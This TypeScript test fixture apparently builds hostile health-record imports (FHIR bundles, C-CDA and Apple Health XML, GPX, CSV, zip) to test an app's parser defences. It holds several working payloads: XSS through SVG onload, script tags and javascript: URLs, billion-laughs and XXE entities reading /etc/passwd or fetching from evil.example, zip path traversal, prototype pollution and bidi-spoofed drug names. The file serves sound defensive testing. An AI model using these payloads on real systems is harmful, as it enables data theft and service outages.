import { HOSTILE_JSON, HOSTILE_WORDS } from '#server/testing/hostile-values.ts'
import { epicDocument } from '#web/imports/formats/ccda/testing/epic.ts'
import { exportOf, record } from '#web/imports/testing/apple-export.ts'
import { zipOf } from './zip-of.ts'

const { markup, attribute, address, template } = HOSTILE_WORDS
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=true"><script>window.hacked=true</script></svg>`
const HTML = `<!doctype html>${markup}<iframe src="javascript:window.hacked=true"></iframe>`
const base64 = (text: string) => Buffer.from(text).toString('base64')

/** Names that turn what reads them around, and say nothing. */
const TURNED = '\u202eniripsA\u2066 10 mg \u2069'

/** A portal's record whose every text is an attack. */
export const hostileBundle = {
  resourceType: 'Bundle',
  type: 'collection',
  entry: [
    {
      ...{ resourceType: 'Patient', id: 'p', name: [{ text: markup, given: [markup], family: attribute }] },
      managingOrganization: { display: markup },
      text: { status: 'generated', div: `<div xmlns="http://www.w3.org/1999/xhtml">${markup}${SVG}</div>` },
      telecom: [{ system: 'url', value: address }],
      photo: [{ contentType: 'image/svg+xml', data: base64(SVG), url: address }],
    },
    ...[markup, attribute, address, template, TURNED].map((text, index) => ({
      ...{ resourceType: 'MedicationRequest', id: `m${index}`, status: 'active', authoredOn: '2025-03-01' },
      medicationCodeableConcept: { text, coding: [{ system: address, code: text, display: text }] },
      dosageInstruction: [{ text, patientInstruction: text }],
      note: [{ text }, { authorString: text, text: markup }],
    })),
    ...[markup, 'Sodium'].map((text, index) => ({
      ...{ resourceType: 'Observation', id: `o${index}`, status: 'final', code: { text } },
      effectiveDateTime: '2026-01-02',
      valueString: attribute,
      interpretation: [{ text: markup }],
      note: [{ text: markup }],
    })),
    { resourceType: 'Condition', id: 'c', code: { text: markup }, note: [{ text: template }] },
    {
      resourceType: 'AllergyIntolerance',
      id: 'a',
      code: { text: markup },
      reaction: [{ manifestation: [{ text: address }] }],
    },
    { resourceType: markup, id: 'x' },
    {
      ...{
        resourceType: 'DiagnosticReport',
        id: 'r',
        status: 'final',
        code: { text: markup },
        effectiveDateTime: '2026-01-02',
      },
      presentedForm: [
        { contentType: 'text/html', data: base64(HTML), title: markup },
        { contentType: 'image/svg+xml', data: base64(SVG), title: '../../etc/passwd' },
        { contentType: 'application/pdf', data: base64(HTML), title: 'report.pdf' },
        { contentType: 'text/html', url: address, title: address },
      ],
    },
    {
      ...{
        resourceType: 'DocumentReference',
        id: 'd',
        status: 'current',
        description: markup,
        date: '2026-01-02T10:00:00Z',
      },
      content: [{ attachment: { contentType: 'text/plain', data: base64(`Dear patient, ${markup}`), title: markup } }],
    },
  ].map(resource => ({ fullUrl: address, resource })),
}

const inXml = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')

/** Every word between tags, and every name in an attribute. */
const hostileDocument = epicDocument
  .replace(/>([^<>]*\p{L}[^<>]*)</gu, `>${inXml(markup)}<`)
  .replace(/displayName="[^"]*"/g, `displayName="${inXml(markup)}"`)

const LAUGHS = Array.from({ length: 12 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join(
  '',
)
const DOCTYPE = `<!DOCTYPE ClinicalDocument [<!ENTITY l0 "ha">${LAUGHS}<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % net SYSTEM "https://evil.example/x.dtd">%net;]>`
const withEntities = epicDocument
  .replace(
    /(<\?xml[^>]*\?>)?/,
    `<?xml version="1.0"?><?xml-stylesheet href="javascript:window.hacked=true"?>${DOCTYPE}`,
  )
  .replace('Ankle sprain', 'Ankle &l12; &file; sprain')

const tableOf = (headers: string[], cells: string[]) =>
  [headers, cells].map(row => row.map(cell => `"${cell.replaceAll('"', '""')}"`).join()).join('\n')

const manifest = (files: object[]) =>
  JSON.stringify({ product: 'Wellkept', format: 1, version: markup, at: '2026-11-01T12:00:00Z', files })

const deep = `{"resourceType":"Bundle","entry":${'['.repeat(20_000)}${']'.repeat(20_000)}}`
const prototypes = JSON.stringify(hostileBundle)
  .replaceAll('"note":', '"__proto__":{"hacked":true},"constructor":{"prototype":{"hacked":true}},"note":')
  .replaceAll('"id":', '"toString":1,"valueOf":1,"hasOwnProperty":1,"id":')

/** Files that try to run something when they are read or shown, by the names that formats are recognized by. */
export const hostileImports = async (): Promise<[name: string, content: string | Uint8Array][]> => [
  ['record.json', JSON.stringify(hostileBundle)],
  ['prototypes.json', prototypes],
  ['deep.json', deep],
  ...Object.entries(HOSTILE_JSON)
    .filter(([name]) => /own prototype|deep objects|turns into/.test(name))
    .map(([name, text]): [string, string] => [`${name}.json`, `{"resourceType":"Bundle","entry":${text}}`]),
  ['record.xml', hostileDocument],
  ['entities.xml', withEntities],
  [
    'export.xml',
    exportOf(
      record(inXml(markup), inXml(attribute), inXml(markup)),
      record('HKQuantityTypeIdentifierBodyMass', 80, 'kg'),
    ).replace('<HealthData', `${DOCTYPE.replace('ClinicalDocument', 'HealthData')}<HealthData`),
  ],
  [
    'track.gpx',
    `<?xml version="1.0"?>${DOCTYPE}<gpx><trk><name>${inXml(markup)}&l12;</name><trkseg><trkpt lat="1" lon="1"><time>${inXml(markup)}</time></trkpt></trkseg></trk></gpx>`,
  ],
  [
    'table.csv',
    tableOf(['medicationName', '__proto__', 'constructor', markup], [markup, attribute, template, address]),
  ],
  ['readings.csv', tableOf(['Date', 'Weight (kg)', markup], ['2026-11-01', '80', markup])],
  ['names.zip', await zipOf({ '../../etc/passwd': 'x', [markup]: HTML, '__proto__/export.xml': SVG, 'x.html': HTML })],
  ['page.html', HTML],
  ['picture.svg', SVG],
  ['card.smart-health-card', JSON.stringify({ verifiableCredential: [markup, 'a.b.c', '__proto__'] })],
  [
    'backup.zip',
    await zipOf({
      'manifest.json': manifest([{ path: '../../etc/passwd', bytes: 1, count: 1, sha256: markup }]),
      '../../etc/passwd': 'x',
    }),
  ],
]
